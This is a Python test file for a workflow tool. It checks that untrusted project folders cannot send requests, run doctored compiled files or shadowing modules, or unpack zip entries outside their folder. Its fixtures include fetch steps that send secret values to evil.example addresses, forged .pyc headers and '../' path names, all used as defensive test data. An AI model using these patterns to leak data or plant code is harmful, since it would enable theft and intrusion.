"""What a stranger's folder brings along does nothing: no code, no request, no file elsewhere, before somebody has said so."""

from __future__ import annotations

import json
import os
import py_compile
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

import httpx
import pytest
from typer.testing import CliRunner

from eskret.cli import app
from eskret.core.files.scratch import scratch_folder
from eskret.errors import EskretError, InputError
from eskret.formats import archives
from eskret.process.client import Worker
from eskret.user_operations import trust
from eskret.workflow.handover import pack as packs
from eskret.workflow.model import document
from eskret.workflow.run import consent
from eskret.workflow.run.rehearsal import rehearse
from tests.conftest import squares

FETCH = '\n[[steps]]\nid = "out"\nuse = "fetch"\nservice = "{service}"\ndataset = "d"\n{more}'
PLACES = "name,host\nsecret one,a\nsecret two,b\n"


@pytest.fixture
def no_requests(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(httpx.Client, "stream", lambda *a, **k: pytest.fail("it was asked all the same"))


@pytest.mark.parametrize(
    "text",
    [
        FETCH.format(service="https://evil.example/x", more=""),
        # the address is filled from a table, a row at a time
        '[[steps]]\nid = "in"\nuse = "load"\nfiles = ["places.csv"]\n'
        + FETCH.format(service="https://{host}.evil.example/{name}", more='each = { rows = "in:places" }\n'),
        # what a parameter holds goes along as a condition
        '[parameters.what]\ntype = "text"\ndefault = "secret"\n'
        + FETCH.format(service="https://evil.example", more='where = { q = "{what}" }\n'),
        # inside another workflow
        '[[steps]]\nid = "w"\nuse = "workflow"\nfile = "inner.toml"\n',
    ],
)
def test_no_request_leaves_before_somebody_has_allowed_it(tmp_path: Path, no_requests: None, text: str) -> None:
    (tmp_path / "places.csv").write_text(PLACES)
    (tmp_path / "inner.toml").write_text("eskret = 1\n" + FETCH.format(service="https://evil.example", more="result = true\n"))
    path = tmp_path / "theirs.toml"
    path.write_text("eskret = 1\n" + text)
    found = rehearse(document.read(path), workflow=path)
    assert found.errors and found.unapproved, [f.text for f in found.findings]
    told = CliRunner().invoke(app, ["run", str(path)])
    assert told.exit_code == 2 and "--allow HOST" in told.output
    told = CliRunner().invoke(app, ["run", str(path), "--for-each", str(tmp_path / "places.csv")])
    assert told.exit_code != 0


def test_a_host_is_allowed_for_one_command_or_for_good_and_a_new_one_asks_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []

    def stream(self: Any, method: str, url: str, **_: Any) -> Any:
        asked.append(httpx.URL(url).host)
        raise httpx.ConnectError("nobody there")

    monkeypatch.setattr(httpx.Client, "stream", stream)
    monkeypatch.setattr("eskret.services.connection.TRIES", 1)
    monkeypatch.setattr(consent, "_for_now", set())
    path = tmp_path / "theirs.toml"
    path.write_text("eskret = 1\n" + FETCH.format(service="https://maps.example:8443/x", more=""))
    told = CliRunner().invoke(app, ["rehearse", str(path), "--allow", "maps.example:8443"])
    assert "does not answer" in told.output and set(asked) == {"maps.example"}
    monkeypatch.setattr(consent, "_for_now", set())
    assert "--allow HOST" in CliRunner().invoke(app, ["rehearse", str(path)]).output
    consent.allow(path, [], rehearse(document.read(path), workflow=path).unapproved)
    assert "does not answer" in CliRunner().invoke(app, ["rehearse", str(path)]).output
    for other in ("https://maps.example/x", "https://other.example:8443/x", "http://maps.example:8443/x"):
        path.write_text("eskret = 1\n" + FETCH.format(service=other, more=""))
        assert "--allow HOST" in CliRunner().invoke(app, ["rehearse", str(path)]).output, other
    assert set(asked) == {"maps.example"}


OPERATION = """
import eskret
from helper import X
from deep.inner import Y

@eskret.operation(title="Mine")
def mine(frame):
    "Nothing to it."
    from later import Z
    return frame.assign(x=X + Y + Z)
"""


def test_of_an_allowed_project_only_the_source_that_was_read_runs(tmp_path: Path) -> None:
    """Doctored compiled files, shared libraries and modules called like libraries lie beside it; none is touched."""
    home = tmp_path / "operations"
    (home / "deep").mkdir(parents=True)
    touched = tmp_path / "touched"
    evil = f"open({str(touched)!r}, 'a').write('ran')\nX = Y = Z = 1000\n"
    for name in ("helper.py", "deep/inner.py", "later.py"):
        file = home / name
        file.write_text(evil)
        cache = py_compile.compile(str(file), doraise=True)
        code = Path(cache).read_bytes()
        file.write_text(f"{ {'helper.py': 'X', 'deep/inner.py': 'Y', 'later.py': 'Z'}[name] } = 1\n")
        stat = file.stat()
        # the head of the compiled file says that it belongs to the source as it is
        head = code[:8] + int(stat.st_mtime).to_bytes(4, "little") + stat.st_size.to_bytes(4, "little")
        Path(cache).write_bytes(head + code[16:])
        shutil.copy(cache, file.with_suffix(".pyc"))
        file.with_suffix(".so").write_bytes(b"\x7fELF not really")
    (home / "mine.py").write_text(OPERATION)
    py_compile.compile(str(home / "mine.py"))
    from eskret.formats import geopackage

    with geopackage.writing(tmp_path / "beds.gpkg") as container:
        container.add(squares(3, key="beds"), "beds")
    (tmp_path / "w.toml").write_text(
        'eskret = 1\n[[steps]]\nid = "in"\nuse = "load"\nfiles = ["beds.gpkg"]\n[[steps]]\nid = "mine"\nuse = "own:mine"\nfrom = "in"\n'
        '[[steps]]\nid = "out"\nuse = "save"\nfrom = "mine"\nto = "out.csv"\n'
    )
    for library in ("numpy", "pyarrow", "eskret", "json", "httpx"):
        (tmp_path / f"{library}.py").write_text(evil)
    command = [str(Path(sys.executable).with_name("eskret"))]
    refused = subprocess.run([*command, "trust", "."], cwd=tmp_path, input="n\n", capture_output=True, text=True)
    assert refused.returncode == 1 and "from deep.inner import Y" in refused.stdout and not trust.is_trusted(tmp_path)
    assert subprocess.run([*command, "run", "w.toml", "-q"], cwd=tmp_path).returncode == 2
    allowed = subprocess.run([*command, "trust", "."], cwd=tmp_path, input="y\n", capture_output=True, text=True)
    assert allowed.returncode == 0 and trust.is_trusted(tmp_path)
    ran = subprocess.run([*command, "run", "w.toml", "-q"], cwd=tmp_path, capture_output=True, text=True)
    assert ran.returncode == 0, ran.stderr
    assert {line.split(",")[2] for line in (tmp_path / "out.csv").read_text().splitlines()[1:]} == {"3"}, "1 + 1 + 1"
    events: list[Any] = []
    before = os.getcwd()
    os.chdir(tmp_path)
    try:
        worker = Worker(events.append)
        worker.send("look", path=str(tmp_path / "beds.gpkg"))
        until = time.monotonic() + 30
        while not events and time.monotonic() < until:
            time.sleep(0.02)
        worker.close()
    finally:
        os.chdir(before)
    assert events[0]["event"] == "done" and not touched.exists()


def test_code_that_changed_since_it_was_shown_is_not_allowed(tmp_path: Path) -> None:
    (tmp_path / "operations").mkdir()
    (tmp_path / "operations" / "a.py").write_text("X = 1\n")
    shown = trust.hash_of(tmp_path)
    (tmp_path / "operations" / "a.py").write_text("X = 2\n")
    with pytest.raises(EskretError, match="has changed since it was shown"):
        trust.trust(tmp_path, told=shown)
    assert not trust.is_trusted(tmp_path)


@pytest.mark.parametrize("name", [".w.journal.json", "operations/.hidden.py", ".config/x", "../up", "/abs", "a\\b"])
def test_a_pack_brings_no_hidden_names_and_none_elsewhere(tmp_path: Path, name: str) -> None:
    path = tmp_path / "evil.zip"
    told = {"path": name, "role": "input", "size": 1, "sha256": "x", "along": True}
    main = {"path": "w.toml", "role": "workflow", "size": 1, "sha256": "x", "along": True}
    with zipfile.ZipFile(path, "w") as file:
        file.writestr(packs.LIST, json.dumps({"eskret_pack": 1, "workflow": "w.toml", "files": [main, told]}))
    with pytest.raises(InputError, match=r"hidden|outside its folder"):
        packs.unpack(path, tmp_path / "new")
    assert not (tmp_path / "new").exists()


def test_an_archive_whose_names_want_the_same_place_is_a_sentence(tmp_path: Path) -> None:
    path = tmp_path / "a.zip"
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("a.csv", "x\n1\n")
        file.writestr("a.csv/b.csv", "x\n1\n")
    with pytest.raises(InputError, match="two of its names want the same place"):
        archives.unpacked(path)


def test_what_a_killed_process_left_is_swept_by_the_next(own_data: Path) -> None:
    child = os.fork()
    if child == 0:
        (scratch_folder("window") / "large.arrow").write_bytes(b"x" * 1000)
        os._exit(9)
    os.waitpid(child, 0)
    home = own_data / "cache" if (own_data / "cache").exists() else own_data.parent / "cache" / "eskret"
    (left,) = [p for p in (home / "scratch").iterdir() if p.is_dir()]
    mine = scratch_folder("window")
    assert not left.exists() and mine.exists()
